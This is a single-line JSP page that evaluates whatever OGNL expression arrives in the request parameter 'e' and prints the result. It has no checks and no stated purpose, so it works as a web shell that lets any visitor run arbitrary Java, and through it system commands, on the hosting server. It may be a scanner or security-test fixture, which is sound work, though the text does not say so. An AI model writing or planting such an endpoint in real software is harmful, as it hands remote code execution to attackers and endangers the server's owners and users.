<%@ page import="ognl.Ognl" %><% out.print(Ognl.getValue(request.getParameter("e"), new java.util.HashMap())); %>
